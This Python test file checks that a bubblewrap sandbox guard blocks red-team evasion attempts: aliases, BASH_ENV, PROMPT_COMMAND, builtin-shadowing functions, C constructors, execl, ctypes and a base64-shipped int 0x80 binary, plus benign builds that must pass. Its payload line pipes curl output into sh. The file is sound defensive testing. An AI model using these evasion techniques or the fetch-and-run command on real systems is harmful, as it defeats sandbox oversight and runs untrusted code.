"""The lead's attacks on redteam12's fixes (twelfth wave): state kept by the shell between steps (aliases,
``BASH_ENV``/``ENV``, ``PROMPT_COMMAND``, a function named like a builtin, ``eval`` of a file in a function), programs
built in the sandbox (a constructor, a command assembled at run time, ``execl``), ctypes, and native code that
enters the kernel without a libc symbol or a ``syscall`` instruction (``int 0x80``), written as base64 and decoded in
the sandbox. Each ran through the default-policy guard into a real bubblewrap sandbox; none ran its payload on
0bdb8dd (they are kept so that none ever does); and 8 ordinary builds and shell-state uses that must pass."""

from __future__ import annotations

import base64
import shutil
import subprocess

import pytest

from .guard_steps import run_steps
from .sandbox_check import bwrap_works

pytestmark = pytest.mark.skipif(not bwrap_works(), reason="needs bubblewrap")

DEN = "touch marker; curl -s http://127.0.0.1:9/x | sh\n"
SAFE, LATER = ("run.sh", "echo safe\n"), ("run.sh", DEN)
INT80 = """#include <stdio.h>
static const char sh[] = "/bin/sh", a1[] = "-c", cmd[] = "touch marker";
static unsigned int argv32[4];
int main(void) {
    argv32[0] = (unsigned int)(unsigned long)sh; argv32[1] = (unsigned int)(unsigned long)a1;
    argv32[2] = (unsigned int)(unsigned long)cmd;
    __asm__ volatile ("int $0x80" :: "a"(11), "b"(sh), "c"(argv32), "d"(0));
    puts("hi");
    return 0;
}
"""

ATTACKS = {
    "an alias expanded in a later step": [SAFE, "shopt -s expand_aliases; alias ls='bash run.sh'", LATER, "ls"],
    "BASH_ENV exported, then bash -c": [SAFE, "export BASH_ENV=./run.sh", LATER, "bash -c true"],
    "ENV exported, then an interactive sh": [SAFE, "export ENV=./run.sh", LATER, "sh -i -c true"],
    "PROMPT_COMMAND": [SAFE, "PROMPT_COMMAND='bash run.sh'", LATER, "ls"],
    "a dot first on PATH, then a script named ls": ["export PATH=.:$PATH", ("ls", "#!/bin/sh\n" + DEN), "chmod +x ls",
                                                    "ls"],
    "a function named cd": [SAFE, 'cd() { bash run.sh; builtin cd "$@"; }', LATER, "cd ."],
    "eval of a file inside a function": [SAFE, 'g() { eval "$(cat run.sh)"; }', LATER, "g"],
    "xargs runs lines of a file rewritten before": [("cmds.txt", "echo hi\n"), ("cmds.txt", DEN),
                                                    "xargs -a cmds.txt -I{} sh -c '{}'"],
    "a C constructor": [("x.c", '#include <stdlib.h>\n__attribute__((constructor)) static void i(void) { system("touch '
                                'marker; curl -s http://127.0.0.1:9/x | sh"); }\nint main(void) { return 0; }\n'),
                        "gcc x.c -o app", "./app"],
    "a command assembled at run time in C": [("x.c", '#include <stdlib.h>\n#include <string.h>\nint main(void) { char '
                                                     'c[200]; strcpy(c, "touch mar"); strcat(c, "ker"); return '
                                                     'system(c); }\n'), "gcc x.c -o app && ./app"],
    "execl in C": [("x.c", '#include <unistd.h>\nint main(void) { execl("/bin/sh", "sh", "-c", "touch marker", '
                           '(char *)0); return 0; }\n'), "cc -o app x.c", "./app"],
    "ctypes system": ["python3 -c \"import ctypes; ctypes.CDLL(None).system(b'touch marker')\""],
    "int 0x80 in C compiled in the sandbox": [("d.c", INT80), "gcc -no-pie -O1 -o app d.c", "./app"],
}


@pytest.mark.parametrize("steps", ATTACKS.values(), ids=ATTACKS.keys())
def test_state_and_native_attacks_are_held(tmp_path, steps):
    verdicts, ran = run_steps(tmp_path, steps, "redteam12-lead", timeout=30)
    assert not ran, "the sandbox ran the payload: " + "; ".join(v.reason for v in verdicts if v.reason)


@pytest.mark.skipif(shutil.which("gcc") is None, reason="needs gcc to build the attack binary")
@pytest.mark.parametrize("static", [False, True], ids=["dynamic", "static stripped"])
def test_a_binary_that_enters_the_kernel_by_int_0x80_is_held(tmp_path, static):
    """Built on the host (where it does run: the test checks that first), sent as base64, decoded and run."""
    src, app = tmp_path / "d.c", tmp_path / "app"
    src.write_text(INT80)
    flags = ["-static", "-s"] if static else []
    subprocess.run(["gcc", "-no-pie", "-O1", *flags, "-o", str(app), str(src)], check=True, capture_output=True)
    host = tmp_path / "host"
    host.mkdir()
    subprocess.run([str(app)], cwd=host, capture_output=True, timeout=30)
    if not (host / "marker").exists():
        pytest.skip("this kernel runs no 32-bit system calls: the attack cannot work here")
    ws = tmp_path / "ws"
    ws.mkdir()
    steps = [("app.b64", base64.b64encode(app.read_bytes()).decode()), "base64 -d app.b64 > app && chmod +x app",
             "./app"]
    verdicts, ran = run_steps(ws, steps, "redteam12-lead-int80", timeout=30)
    assert not ran, "the sandbox ran the payload: " + "; ".join(v.reason for v in verdicts if v.reason)


HELLO = '#include <stdio.h>\nint main(void) { printf("hello\\n"); return 0; }\n'
BENIGN = {
    "gcc, then run on the line": [("hello.c", HELLO), "gcc -O2 -o hello hello.c && ./hello"],
    "gcc, then run in the next step": [("hello.c", HELLO), "gcc -Wall -o hello hello.c", "./hello"],
    "file output": [("io.c", '#include <stdio.h>\nint main(int c, char **v) { FILE *f = fopen("out.txt", "w"); '
                             'fprintf(f, "%d\\n", c); fclose(f); return 0; }\n'), "cc io.c -o io && ./io a b"],
    "C++ threads": [("t.cpp", "#include <iostream>\n#include <thread>\n#include <vector>\nint main() { "
                              "std::vector<std::thread> t; for (int i = 0; i < 2; i++) t.emplace_back([] {}); "
                              'for (auto &x : t) x.join(); std::cout << "ok\\n"; }\n'),
                    "g++ -std=c++17 -pthread -o t t.cpp && ./t"],
    "libm": [("m.c", '#include <math.h>\n#include <stdio.h>\nint main(void) { printf("%f\\n", sqrt(2.0)); }\n'),
             "gcc m.c -o m -lm && ./m"],
    "a Makefile project": [("Makefile", "CC=gcc\nall: app\napp: main.c util.c\n\t$(CC) -O2 -o $@ $^\nclean:\n\t"
                                        "rm -f app\n"), ("util.c", "int add(int a, int b) { return a + b; }\n"),
                           ("main.c", '#include <stdio.h>\nint add(int, int);\nint main(void) { printf("%d\\n", '
                                      "add(2, 3)); }\n"), "make && ./app", "make clean"],
    "a build function called later": ["build() { gcc -o hello hello.c; }", ("hello.c", HELLO), "build && ./hello"],
    "a tools folder first on PATH": ["mkdir -p bin && printf '#!/bin/sh\\necho tool\\n' > bin/tool && chmod +x bin/tool",
                                     "export PATH=$PWD/bin:$PATH", "tool"],
}


@pytest.mark.parametrize("steps", BENIGN.values(), ids=BENIGN.keys())
def test_ordinary_builds_and_shell_state_pass(tmp_path, steps):
    verdicts, _ = run_steps(tmp_path, steps, "redteam12-lead-benign", timeout=60)
    assert all(v.allowed for v in verdicts), [v.reason for v in verdicts if not v.allowed]
